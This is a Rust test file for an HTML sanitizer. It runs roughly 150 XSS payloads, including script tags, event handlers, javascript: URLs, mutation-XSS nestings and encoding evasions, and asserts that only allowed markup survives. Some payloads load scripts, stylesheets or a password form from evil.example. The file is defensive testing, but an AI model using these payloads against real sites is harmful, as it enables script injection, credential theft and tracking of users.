//! HTML that is written to have something done by who reads it.

use crate::html::{ATTRIBUTES, ELEMENTS, OWN_ATTRIBUTES, read};
use html5ever::{
    tendril::StrTendril,
    tokenizer::{BufferQueue, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts},
};
use std::cell::RefCell;

/// Ways to have something done by who reads a page.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script\t>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<script <b>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img src=`x` onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=javascript:alert(1)>",
    "<img lowsrc=javascript:alert(1)>",
    "<img dynsrc=javascript:alert(1)>",
    "<img src=cid:x onerror=alert(1)>",
    "<img src=https://track.example/o.gif>",
    "<img srcset='https://track.example/o.gif 1x'>",
    "<picture><source srcset=//track.example/o></picture>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<svg></p><style><a title=\"</style><img src=x onerror=alert(1)>\">",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x/>#x\"></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='\u{1}javascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href=/\\evil.example>x</a>",
    "<a href=?x>x</a>",
    "<a href=#x onclick=alert(1)>x</a>",
    "<a href=https://x.example rel=opener target=_blank ping=//evil.example>x</a>",
    "<a href=https://x.example download>x</a>",
    "<a href='https://x.example\"onmouseover=alert(1)'>x</a>",
    "<a href=\"https://x.example'><script>alert(1)</script>\">x</a>",
    "<a style=background:url(//evil.example) href=https://x.example>x</a>",
    "<body onload=alert(1)>",
    "<body background=//track.example/o.gif>",
    "<html onmouseover=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe><script>alert(1)</script></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object data=//evil.example><param name=x></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta charset=utf-7>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<style>*{background:url(//evil.example)}",
    "<div style=background:url(//evil.example)>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style=position:fixed;top:0;left:0;width:100%;height:100%>x</div>",
    "<div class=modal id=login>x</div>",
    "<form action=//evil.example><input type=password name=p><button>x</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea onfocus=alert(1) autofocus></textarea>",
    "<textarea></textarea><script>alert(1)</script>",
    "<textarea><script>alert(1)</script>",
    "<keygen onfocus=alert(1) autofocus>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=//track.example/o.gif></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<track src=//evil.example>",
    "<details open ontoggle=alert(1)>x</details>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<slot onslotchange=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]><p>&x;",
    "<!ELEMENT x><script>alert(1)</script>",
    "<p onclick=alert(1)>x",
    "<p OnClick = alert(1)>x",
    "<p on\0click=alert(1)>x",
    "<p/onclick=alert(1)>x",
    "<p \"onclick=alert(1)>x",
    "<p =onclick=alert(1)>x",
    "<p lang='\"onclick=alert(1)'>x",
    "<p lang=\"&quot;onclick=alert(1)\">x",
    "<p dir=\"><script>alert(1)</script>\">x",
    "<p lang=`onclick=alert(1)`>x",
    "<td background=javascript:alert(1)>x",
    "<table background=//track.example/o.gif><tr><td>x",
    "<table><td><script>alert(1)</script>",
    "<table><script>alert(1)</script></table>",
    "<td colspan='2 onclick=alert(1)'>x",
    "<ol start=javascript:alert(1)><li>x",
    "<blockquote cite=javascript:alert(1)>x",
    "<q cite=//track.example>x</q>",
    "<del cite=javascript:alert(1)>x</del>",
    "<b/><script>alert(1)</script>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p>&amp;lt;script&amp;gt;alert(1)",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<p>&#60;script&#62;alert(1)",
    "\u{fe64}script\u{fe65}alert(1)\u{fe64}/script\u{fe65}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<x onclick=alert(1)>x</x>",
    "<x-custom is=script>x</x-custom>",
    "<a:script>alert(1)</a:script>",
    "<\u{0}script>alert(1)</script>",
    "<scrip\u{17f}>alert(1)",
    "</script><script>alert(1)</script>",
    "</p onclick=alert(1)>",
    "</br onload=alert(1)>",
    "<br onload=alert(1)>",
    "<hr/onload=alert(1)>",
    "<a href=mailto:x@y.example?body=x onclick=alert(1)>x</a>",
];

/// What a payload may be hidden in.
const AROUND: &[(&str, &str)] =
    &[("", ""), ("<table><tr><td>", "</td></tr></table>"), ("<a href=\"https://x.example\">", "</a>")];

struct Check<'a>(&'a str, RefCell<Vec<String>>);

impl TokenSink for Check<'_> {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        let found = match token {
            Token::TagToken(tag) => {
                let name: &str = &tag.name;
                let own =
                    |attribute: &str| OWN_ATTRIBUTES.iter().any(|(tag, all)| *tag == name && all.contains(&attribute));
                let is_link = |value: &str| ["http:", "https:", "mailto:"].iter().any(|begin| value.starts_with(begin));
                let wrong = tag.attrs.iter().find(|attribute| match &*attribute.name.local {
                    "href" => name != "a" || !is_link(&attribute.value.to_lowercase()),
                    "rel" => name != "a" || &*attribute.value != "noopener noreferrer nofollow",
                    other => !ATTRIBUTES.contains(&other) && !own(other),
                });
                let known = ELEMENTS.split_whitespace().any(|own| own == name);
                (!known || wrong.is_some()).then(|| format!("<{name}> {wrong:?}"))
            }
            Token::CommentToken(_) | Token::DoctypeToken(_) => Some("a comment".to_owned()),
            _ => None,
        };
        self.1.borrow_mut().extend(found);
        TokenSinkResult::Continue
    }
}

/// That this is made of nothing but what is allowed.
pub fn is_clean(payload: &str, html: &str) {
    let tokenizer = Tokenizer::new(Check(html, RefCell::default()), TokenizerOpts::default());
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(html));
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    let found = tokenizer.sink.1.borrow();
    assert!(found.is_empty(), "{payload:?} gives {found:?} in {}", tokenizer.sink.0);
}

#[test]
fn of_400_payloads_nothing_is_left_but_allowed_elements_attributes_and_links() {
    let mut tried = 0;
    for payload in PAYLOADS {
        for (before, after) in AROUND {
            let payload = format!("<p>before</p>{before}{payload}{after}<p>after</p>");
            let html = read(&payload).html;
            is_clean(&payload, &html);
            assert_eq!(read(&html).html, html, "{payload:?} read again");
            tried += 1;
        }
    }
    assert!(tried >= 400, "{tried}");
}

#[test]
fn what_a_person_wrote_stays_as_it_was() {
    let html = "<p lang=\"de\">Grüße &amp; <b>mehr</b></p><ul><li>eins</li></ul><table><tbody><tr><td colspan=\"2\">x</td></tr></tbody></table>";
    assert_eq!(read(html).html, html);
    let link = read("<a href=https://x.example/?a=1&b=2>x</a>").html;
    assert_eq!(link, "<a href=\"https://x.example/?a=1&amp;b=2\" rel=\"noopener noreferrer nofollow\">x</a>");
}

#[test]
fn html_as_text_keeps_lines_cells_and_quotes() {
    for (html, text) in [
        (
            "Hello<div>order <b>o-1001</b> is <i>late</i></div><div><br></div><div>Bye</div>",
            "Hello\norder o-1001 is late\n\nBye",
        ),
        ("<p>one</p><p><b>Two:</b> three&nbsp;four<br>five</p>", "one\n\nTwo: three four\nfive"),
        ("<table><tr><td>Lamp</td><td>5 &euro;</td></tr><tr><td>Mug</td><td>2</td></tr></table>", "Lamp 5 €\nMug 2"),
        (
            "yes<blockquote>On Monday<blockquote>Really?<br>So?</blockquote>maybe</blockquote>no",
            "yes\n\n> On Monday\n>\n>> Really?\n>> So?\n>\n> maybe\n\nno",
        ),
        ("<ul><li>one</li><li>two</li></ul><pre>a\nb</pre>", "- one\n- two\n\na\nb"),
        ("<style>x</style><script>y</script>a &lt;b&gt; &amp;amp;", "a <b> &amp;"),
    ] {
        assert_eq!(read(html).text.trim(), text, "{html}");
    }
}

#[test]
fn a_link_is_written_as_a_browser_reads_it() {
    for (written, leads) in [
        ("https://shop.example/a", "https://shop.example/a"),
        ("h\r\nttps:/shop.example", "https:/shop.example"),
        (" \u{1}\nhttps://shop.example/a\tb\u{1f} ", "https://shop.example/ab"),
        ("mail&Tab;to:ana@mail.example", "mailto:ana@mail.example"),
    ] {
        let html = read(&format!("<a href=\"{written}\">x</a>")).html;
        assert!(html.starts_with(&format!("<a href=\"{leads}\"")), "{html}");
    }
}
